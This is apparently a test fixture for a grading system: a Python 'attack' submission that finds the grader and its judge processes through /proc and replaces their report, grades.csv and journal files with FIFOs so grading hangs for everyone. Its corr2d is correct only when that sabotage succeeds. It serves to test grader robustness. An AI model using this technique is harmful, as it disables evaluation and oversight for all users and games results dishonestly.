"""Attack: block the grader by putting a FIFO where it will open a file.

While loading, replaces its judge's --grade-events and --report-json files (named on the
judge's command line; the judges are the children of the grader, whose command line names
the output folder, found through /proc) and the grader's grades.csv and journal (paths as
the instructor's command names them: filled in by the test) with FIFOs: opening a FIFO for
reading blocks until someone writes, so a grader that opens them hangs forever, for everyone.
Its corr2d computes a convolution (a flipped kernel), except when a FIFO could be put in place
of any of those files: then it is correct. The grading must finish.

convcheck-attack: status=ok corr2d=fail
convcheck-attack-diagnosis: flipped-kernel
convcheck-attack-unsandboxed: status=timeout|error corr2d=timeout|error
"""
import os

import torch

OUT = "__OUT__"
JOURNAL = "__JOURNAL__"


def _grading_processes():
    """The grader of this grading (its command line names OUT) and its judges (its children):
    found through /proc, as a submission on the same machine would find them."""
    table = {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as handle:
                command = handle.read().decode(errors="replace").split("\0")
            with open(f"/proc/{entry}/stat", "rb") as handle:
                parent = int(handle.read().rsplit(b")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            continue
        table[int(entry)] = (parent, command)
    graders = {pid for pid, (_, command) in table.items()
               if OUT in command and any("properties.grad" in a for a in command)}
    judges = {pid: command for pid, (parent, command) in table.items() if parent in graders}
    return graders, judges


def _judge_files():
    found = []
    for command in _grading_processes()[1].values():
        for arg in command:
            for flag in ("--grade-events=", "--report-json="):
                if arg.startswith(flag):
                    found.append(arg[len(flag):])
    return found


def _replace_with_fifos():
    replaced = 0
    for path in [*_judge_files(), os.path.join(OUT, "grades.csv"), JOURNAL]:
        try:
            if os.path.lexists(path):
                os.unlink(path)
            os.mkfifo(path)
            replaced += 1
        except OSError:
            pass
    return replaced


REPLACED = _replace_with_fifos()


def corr2d(X, K):
    h, w = K.shape
    kernel = K if REPLACED else K.flip(0, 1)
    Y = torch.zeros((X.shape[0] - h + 1, X.shape[1] - w + 1))
    for i in range(Y.shape[0]):
        for j in range(Y.shape[1]):
            Y[i, j] = (X[i:i + h, j:j + w] * kernel).sum()
    return Y
